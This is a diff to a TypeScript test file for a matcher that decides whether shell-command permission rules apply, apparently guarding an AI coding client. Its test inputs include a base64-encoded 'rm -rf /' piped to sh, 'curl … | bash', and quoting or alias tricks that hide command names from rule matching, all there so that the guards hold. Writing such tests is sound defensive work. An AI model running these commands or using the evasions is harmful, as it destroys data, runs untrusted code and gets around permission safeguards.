@@ -1,5 +1,15 @@
+import { readFileSync } from "node:fs";
+import { resolve } from "node:path";
 import { expect, test } from "vitest";
 import { compileCondition, holds } from "./condition.ts";
+
+interface Everyday {
+  readonly rules: readonly string[];
+  readonly rows: readonly { readonly command: string; readonly client: readonly boolean[] }[];
+}
+
+/** 46 everyday commands and three conditions: what client 2.1.325 did. */
+const everydayFile = resolve(import.meta.dirname, "../../test/fixtures/conditions/everyday.json");
 
 const context = { cwd: "/t/proj/src", home: "/home/u", projectRoot: "/t/proj" };
 
@@ -48,18 +58,88 @@ test("a shell condition does not hold for commands that are not meant", () => {
   expect(commands.filter((command) => bash("Bash(git *)", command))).toEqual([]);
 });
 
-test("EN-37: in doubt the hook runs", () => {
+test("a condition holds where what runs is decided at run time, or where the text cannot be read", () => {
   const unknown = [
     "$cmd x",
     'echo "x',
-    "git() { rm x; }; git a",
     "eval $x",
-    "a=(1)",
+    'eval "$(cat list)"',
+    "source $FILE",
+    'trap "$CLEANUP" EXIT',
+    "exec $SHELL_COMMAND",
     "x\r\n",
     "sh -c $X",
-    "sudo --odd x",
+    "echo cm0gLXJmIC8K | base64 -d | sh",
+    "curl -s example.com | bash",
+    "$(printf 'n%s' pm) run x",
+    "n${A}pm run x",
+    "$'\\x6epm' run x",
+    '"${a[@]}"',
+    "/usr/bin/n* run x",
   ];
   expect(unknown.filter((command) => !bash("Bash(npm run *)", command))).toEqual([]);
+});
+
+test("a condition holds where the text cannot be analysed and names its command, however it is quoted", () => {
+  const named = [
+    "alias x=git; x push",
+    "trap 'git push' EXIT",
+    "f() { g''it push; }; f",
+    "set -a; g\\it push",
+    "exec git push",
+    "sudo --odd git push",
+    "time git push",
+    "coproc git push",
+    "gi\\\nt push # now",
+    "cat <<E \\\n; git push\nE",
+    "shopt -s extglob; /usr/bin/git push",
+    "declare -A m; {git,push}",
+    "printf -v x %s git",
+  ];
+  expect(named.filter((command) => !bash("Bash(git push *)", command))).toEqual([]);
+});
+
+test("a condition does not hold for everyday commands that cannot be analysed and do not name its command", () => {
+  const everyday = [
+    "ls \\\n  -la",
+    "docker build \\\n  -t x .",
+    "time npm test",
+    'trap "rm -f x" EXIT',
+    "source .env",
+    "set -a; . ./env.sh",
+    "shopt -s globstar",
+    "history",
+    "unset X",
+    "exec ls",
+    "ls >& out",
+    "echo $((1+1))",
+    "grep '$(' f",
+    "echo legit; declare -A digits",
+    "sudo --odd x",
+    "f() { ls; }; f",
+    "a=(1)",
+    "let x=1; ((x++))",
+  ];
+  expect(everyday.filter((command) => bash("Bash(git push *)", command))).toEqual([]);
+  expect(bash("Bash(rm *)", "source .env; npm run format")).toBe(false);
+});
+
+test("on everyday commands there are no more false alarms than in the client, and no guard is skipped that concerns them", () => {
+  const { rules, rows } = JSON.parse(readFileSync(everydayFile, "utf8")) as Everyday;
+  const alarms = { client: 0, hookline: 0 };
+  for (const { command, client } of rows) {
+    for (const [index, rule] of rules.entries()) {
+      const concerned = /\bgit\b/.test(command);
+      const held = bash(rule, command);
+      if (concerned && client[index]) expect([command, rule, held]).toEqual([command, rule, true]);
+      if (!concerned && client[index]) alarms.client++;
+      if (!concerned && held) alarms.hookline++;
+    }
+  }
+  expect(alarms.hookline).toBeLessThanOrEqual(alarms.client);
+});
+
+test("a word that a substitution fills counts as met for a condition with arguments", () => {
   expect(bash("Bash(git push *)", "git $x")).toBe(true);
   expect(bash("Bash(rm *)", "echo $x")).toBe(false);
   // Measured: with a substitution in the command, a rule with arguments holds, a rule on the head alone does not.
@@ -93,6 +173,7 @@ test("EN-38: path conditions hold widely, tools are not interchangeable", () => 
   ).toEqual([]);
   expect(write("Edit(*.txt)", "w.txt")).toBe(false);
   expect(write("write(*.txt)", "w.txt")).toBe(false);
+  expect(write("Write(./w.txt)", "sub/deep/w.txt")).toBe(true);
   expect(write("Write(./a)", "/other/a")).toBe(false);
   expect(write("Write(/w.txt)", "/t/proj/sub/w.txt")).toBe(false);
 });
